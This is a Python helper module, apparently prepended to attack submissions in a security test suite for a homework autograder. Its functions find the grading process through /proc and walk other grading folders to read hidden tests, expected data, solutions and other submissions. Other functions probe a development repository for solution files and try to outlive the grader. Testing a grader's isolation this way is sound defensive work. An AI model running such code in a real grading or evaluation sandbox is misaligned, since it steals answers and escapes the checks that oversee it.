# The attacker's toolbox, put once at the top of every attack submission. It finds the grader the
# way a real attacker would: the grading process is our worker's parent, its command line names
# its --root, and on a machine like the test's every grading folder is /tmp/rlhw-*.
import glob as _glob
import json as _json
import os as _os
import sys as _sys
import time as _time

_TOKEN = "__TOKEN__"  # the test's, to name the marks that a surviving process would leave
_OWN_WORK = _os.path.dirname(_os.path.dirname(_os.path.abspath(__file__)))  # student/, lib/, out/


def _grader_pid():
    """The grading process: the parent of our worker (the parent of this job)."""
    with open(f"/proc/{_os.getppid()}/stat") as handle:
        return int(handle.read().rsplit(")", 1)[1].split()[1])


def _cmdline_root(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            args = handle.read().split(b"\0")
        return args[args.index(b"--root") + 1].decode()
    except (OSError, ValueError, IndexError):
        return None


def _own_root():
    """This grading's /autograder: from the grader's command line, else Gradescope's."""
    return _cmdline_root(_grader_pid()) or "/autograder"


def _roots():
    """Every grading folder we can name: ours, /autograder, other graders', /tmp/rlhw-*."""
    roots = {"/autograder", _own_root()}
    for entry in _glob.glob("/proc/[0-9]*/cmdline"):
        root = _cmdline_root(entry.split("/")[2])
        if root:
            roots.add(root)
    roots.update(_glob.glob("/tmp/rlhw-*"))
    return sorted(
        root
        for root in roots
        if root and root != _OWN_WORK and not root.startswith(_OWN_WORK + "/")
    )


def _steal(max_files=3000):
    """Read whatever we can that is not ours: hidden tests, expected data, solutions, results,
    other submissions. Returns {"leaked": [...], "samples": {...}, ...}."""
    leaked, samples, denied, seen = [], {}, 0, 0
    own = _own_root()
    for root in sorted(_roots(), key=lambda root: root != own):  # this grading's own first
        for folder, _dirs, files in _os.walk(root, onerror=lambda error: None):
            for name in files[: max(0, max_files - seen)]:
                path = _os.path.join(folder, name)
                seen += 1
                try:
                    with open(path, "rb") as handle:
                        data = handle.read(120)
                except OSError:
                    denied += 1
                    continue
                leaked.append(path)
                if len(samples) < 3 and path.endswith(".py"):
                    samples[path] = data[:80].decode("utf-8", errors="replace")
        try:
            _os.listdir(root)
        except OSError:
            denied += 1
    # On a development machine the interpreter lives in the repository: is any of it readable?
    repo = _os.path.dirname(_os.path.dirname(_os.path.dirname(_sys.executable)))
    devrepo = []
    if repo != "/":
        for rel in (
            "solutions/dp.py",
            "tests/hidden/test_dp.py",
            "build/expected/dp.npz",
            "autograder/build/oracles.py",
            ".git/HEAD",
            "README.md",
            "results",
            "dist",
            "build/autograder",
        ):
            try:
                with open(_os.path.join(repo, rel), "rb") as handle:
                    handle.read(1)
                devrepo.append(rel)
            except IsADirectoryError:
                devrepo.append(rel)  # there and reachable: the listing is checked below
            except OSError:
                pass
        try:
            devrepo += [f"ls: {name}" for name in _os.listdir(repo) if name != ".venv"]
        except OSError:
            pass
    secret = [
        p
        for p in leaked
        if "/tests/hidden/" in p or "/expected/" in p or "/solutions/" in p or "/results/" in p
    ]
    return {
        "leaked": leaked[:10],
        "n_leaked": len(leaked),
        "secret": secret[:10],
        "samples": samples,
        "denied": denied,
        "devrepo": devrepo,
    }


def _linger(grader, tag, then=None, seconds=60.0):
    """Try to outlive the grader (bounded: 60 s), then act and leave a mark for the test."""
    end = _time.monotonic() + seconds
    while _time.monotonic() < end:
        try:
            _os.kill(grader, 0)
        except ProcessLookupError:
            break
        except PermissionError:
            pass
        _time.sleep(0.1)
    else:
        _os._exit(0)
    note = then() if then else ""
    try:
        with open(f"/tmp/rlhw-attack-{_TOKEN}-{tag}-{_os.getpid()}", "w") as handle:
            handle.write(f"survived the grader {note}")
    finally:
        _os._exit(0)


def _job_key():
    """This job's name: the worker sends our stdout to KEY.log."""
    return _os.path.basename(_os.readlink("/proc/self/fd/1"))[: -len(".log")]


def _report(tag, payload):
    raise RuntimeError(f"{tag} {_json.dumps(payload)}")
